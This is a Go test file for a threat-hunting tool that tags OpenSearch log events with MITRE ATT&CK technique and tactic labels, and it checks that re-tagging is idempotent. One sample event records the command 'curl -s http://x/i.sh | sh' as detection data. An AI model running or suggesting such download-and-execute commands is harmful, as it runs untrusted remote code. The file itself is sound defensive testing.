package hunt

import (
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"
	"time"

	"github.com/rangehunt/rangehunt/internal/hunt"
	"github.com/rangehunt/rangehunt/internal/opensearch"
	"github.com/rangehunt/rangehunt/internal/opensearch/opensearchtest"
)

func TestTagUpdateOf(t *testing.T) {
	m := hunt.Match{
		Rule:     hunt.RuleRef{ID: "r1", Tags: []string{"attack.discovery", "attack.t1046", "attack.T1059.004", "detection.emerging-threats", "attack.g0016"}},
		EventRef: hunt.EventRef{File: "/logs/a.ndjson", Line: 7},
	}
	u := TagUpdateOf(m)
	want := opensearch.TagUpdate{
		File: "/logs/a.ndjson", Line: 7,
		Tags:         []string{"rangehunt.rule.r1", "attack.discovery", "attack.t1046", "attack.T1059.004", "detection.emerging-threats", "attack.g0016"},
		TechniqueIDs: []string{"T1046", "T1059.004"},
		TacticIDs:    []string{"TA0007"},
		TacticNames:  []string{"Discovery"},
	}
	if !reflect.DeepEqual(u, want) {
		t.Errorf("TagUpdateOf = %+v\nwant %+v", u, want)
	}
}

// TestHuntOpenSearchTag ingests events into a real OpenSearch, hunts them
// with --backend opensearch --tag twice, and checks that the matched
// document carries the rule's labels once (idempotent) and the other does
// not.
func TestHuntOpenSearchTag(t *testing.T) {
	c := opensearchtest.Client(t)
	url := c.Config().URL
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	index := "rh-test-cmd-hunt-tag"
	_ = c.DeleteIndex(ctx, index)
	t.Cleanup(func() { _ = c.DeleteIndex(context.Background(), index) })

	dir := t.TempDir()
	rules := filepath.Join(dir, "rules.yml")
	logs := filepath.Join(dir, "events.ndjson")
	if err := os.WriteFile(rules, []byte(ruleYAML), 0o644); err != nil {
		t.Fatal(err)
	}
	events := strings.Join([]string{
		`{"@timestamp":"2026-03-01T10:00:00Z","event":{"category":["process"],"type":["start"]},"process":{"executable":"/usr/bin/curl","command_line":"curl -s http://x/i.sh | sh"}}`,
		`{"@timestamp":"2026-03-01T10:00:01Z","event":{"category":["process"],"type":["start"]},"process":{"executable":"/usr/bin/wget","command_line":"wget http://x/i.sh"}}`,
	}, "\n") + "\n"
	if err := os.WriteFile(logs, []byte(events), 0o644); err != nil {
		t.Fatal(err)
	}
	if _, err := c.LoadFiles(ctx, []string{logs}, opensearch.LoadOptions{IngestOptions: opensearch.IngestOptions{Index: index}}); err != nil {
		t.Fatal(err)
	}
	for run := 1; run <= 2; run++ {
		out, errOut, err := runCmd(t, "--backend", "opensearch", "--url", url, "--index", index, "--rules", rules, "--tag")
		if err != nil {
			t.Fatalf("run %d: %v\n%s", run, err, errOut)
		}
		if n := strings.Count(strings.TrimSpace(out), "\n") + 1; n != 1 {
			t.Fatalf("run %d: %d matches, want 1:\n%s", run, n, out)
		}
		want := "1 documents, 1 updated, 0 already tagged"
		if run == 2 {
			want = "1 documents, 0 updated, 1 already tagged"
		}
		if !strings.Contains(errOut, want) {
			t.Errorf("run %d: stderr lacks %q:\n%s", run, want, errOut)
		}
		if strings.Contains(errOut, "was not created by rangehunt") {
			t.Errorf("run %d: an index loaded by rangehunt is reported as foreign:\n%s", run, errOut)
		}
	}
	if err := c.Refresh(ctx, index); err != nil {
		t.Fatal(err)
	}
	var got []map[string]any
	_, err := c.SearchAll(ctx, index, map[string]any{"match_all": map[string]any{}}, opensearch.SearchOptions{}, func(h opensearch.Hit) error {
		var doc map[string]any
		if err := json.Unmarshal(h.Source, &doc); err != nil {
			return err
		}
		got = append(got, doc)
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	tagged := 0
	for _, doc := range got {
		proc := doc["process"].(map[string]any)
		tags, _ := doc["tags"].([]any)
		if strings.Contains(proc["executable"].(string), "wget") {
			if len(tags) != 0 {
				t.Errorf("unmatched document was tagged: %v", tags)
			}
			continue
		}
		tagged++
		wantTags := []any{"attack.execution", "attack.t1059.004", "rangehunt.rule.0f6b2b4e-1c33-4a55-9a7e-3f2d1c0b9e11"}
		if !reflect.DeepEqual(tags, wantTags) {
			t.Errorf("tags = %v, want %v (sorted, once)", tags, wantTags)
		}
		threat, _ := json.Marshal(doc["threat"])
		if !strings.Contains(string(threat), `"T1059.004"`) || !strings.Contains(string(threat), `"TA0002"`) {
			t.Errorf("threat = %s, want technique T1059.004 and tactic TA0002", threat)
		}
	}
	if tagged != 1 || len(got) != 2 {
		t.Errorf("%d documents, %d tagged; want 2 and 1", len(got), tagged)
	}
}
